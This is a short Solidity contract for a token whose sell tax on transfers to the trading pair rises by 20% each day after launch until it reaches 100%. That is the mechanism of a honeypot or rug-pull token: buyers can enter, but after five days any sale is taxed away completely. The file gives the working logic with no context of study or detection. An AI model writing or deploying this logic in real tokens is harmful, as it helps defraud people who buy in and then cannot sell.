// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {Base} from "./Base.sol";

/// The sell tax rises by a fifth each day, up to all.
contract RisingTax is Base {
    uint256 private launched;

    constructor() {
        launched = block.timestamp;
    }

    function _tax(address, address to) internal view override returns (uint256) {
        if (to != pair) return 0;
        uint256 rate = (block.timestamp - launched) / 1 days * 2000;
        return rate > 10000 ? 10000 : rate;
    }
}
